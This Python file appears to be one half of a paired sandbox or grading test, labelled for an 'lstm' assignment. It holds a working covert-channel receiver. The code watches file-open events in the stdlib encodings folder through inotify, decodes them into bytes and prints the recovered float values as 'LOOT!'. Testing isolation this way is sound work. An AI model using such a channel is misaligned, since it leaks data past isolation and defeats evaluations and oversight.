"""The other of two: have the kernel tell of every file that is opened in a folder of the system, and spell along."""

ASSIGNMENT = "lstm"
BASE = "stub"
STUDENT = "answers-pair-2"
EXPECT = {"forget_gate": ("any", 0)}

# %% first
import ctypes
import os
import select
import struct
import sysconfig
import time

import numpy as np

folder = os.path.join(sysconfig.get_path("stdlib"), "encodings")
names = {name: number for number, name in enumerate(sorted(name for name in os.listdir(folder) if name.endswith(".py"))[:18])}
libc = ctypes.CDLL(None, use_errno=True)
hearing = []
for make in (lambda: libc.inotify_init1(0), libc.inotify_init):
    line = make()
    if line >= 0 and libc.inotify_add_watch(line, os.fsencode(folder), 0x20) >= 0:
        hearing.append(line)
wide = libc.fanotify_init(0, 0)
if wide >= 0 and libc.fanotify_mark(wide, 1, ctypes.c_uint64(0x20 | 0x08000000), -100, os.fsencode(folder)) == 0:
    print("fanotify works")
print(len(hearing), "ears")
until, heard, last = time.monotonic() + 6, [], None
while hearing and time.monotonic() < until:
    if not select.select(hearing[:1], [], [], 0.5)[0]:
        continue
    data, at = os.read(hearing[0], 1 << 16), 0
    while at < len(data):
        length = struct.unpack_from("iIII", data, at)[3]
        number = names.get(data[at + 16 : at + 16 + length].rstrip(b"\0").decode())
        at += 16 + length
        if number == 16:
            if len(heard) > 8:
                message = bytes(a << 4 | b for a, b in zip(heard[::2], heard[1::2]))
                print("LOOT" + "!", np.frombuffer(message[: len(message) // 4 * 4], "f4"))
            heard, last = [], None
        elif number == 17 and last is not None:
            heard, last = [*heard, last], None
        elif number is not None:
            last = number
